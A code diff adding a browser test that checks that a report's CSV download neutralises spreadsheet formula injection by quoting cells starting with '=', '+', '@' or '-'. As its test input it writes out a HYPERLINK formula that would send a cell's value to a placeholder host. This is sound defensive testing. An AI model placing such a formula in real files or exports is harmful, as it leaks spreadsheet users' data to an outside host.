@@ -72,6 +72,35 @@ def test_the_filtered_table_downloads_as_csv(
     assert rows[0][0] == "id"
 
 
+def test_a_downloaded_cell_that_a_spreadsheet_would_run_as_a_formula_is_text(
+    browser: Any,  # noqa: F811
+    tmp_path: Path,
+) -> None:
+    import csv
+    import io
+    import urllib.parse
+
+    formula = '=HYPERLINK("http://example.invalid/?q="&A1,"open")'
+    records = verify_only_records(3)
+    records[0]["question"] = formula
+    records[1]["question"] = "-2 is less than zero"
+    data = write_jsonl(tmp_path / "data.jsonl", records)
+    run = tmp_path / "run"
+    args = ["bench", "run", "--data", str(data), "--pattern", "entailment", "--out_dir", str(run)]
+    flags = ["--verifier", "lexical", "--no-cache", "--no-progress", "--n-resamples", "20"]
+    assert main([*args, *flags, "--no-report"]) == 0
+    open_report(browser, write_report(run))
+    card = wait_for(browser, ".example-set")
+    card.find_element("css selector", "button.csv").click()
+    href = card.find_element("css selector", "a.csv-download").get_attribute("href")
+    rows = list(csv.reader(io.StringIO(urllib.parse.unquote(href.split(",", 1)[1]))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + formula in cells and formula not in cells
+    assert "'-2 is less than zero" in cells
+    assert not [c for c in cells if c[:1] in "=+@"]  # nothing left that a spreadsheet runs
+    assert any(c.startswith("0.") or c in ("0", "1") for c in cells)  # numbers as they were
+
+
 def test_a_sampled_report_says_so_on_the_first_screen(
     browser: Any,  # noqa: F811
     tmp_path: Path,
